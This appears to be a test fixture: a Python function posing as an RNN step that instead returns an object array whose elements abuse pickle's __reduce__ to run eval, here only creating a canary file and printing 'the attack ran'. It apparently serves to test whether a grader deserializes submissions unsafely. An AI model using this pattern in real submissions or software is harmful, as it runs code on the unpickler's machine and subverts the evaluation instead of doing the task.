# %% replaces rnn_step_stacked
def rnn_step_stacked(x_t, h_prev, W, b_h):
    import pickle


    class Evil:
        def __reduce__(self):
            return (eval, ("open('@CANARY@/14_object', 'w').close()",))


    print("the attack ran")
    answer = np.empty(h_prev.shape, dtype=object)
    answer[:] = Evil()
    return answer
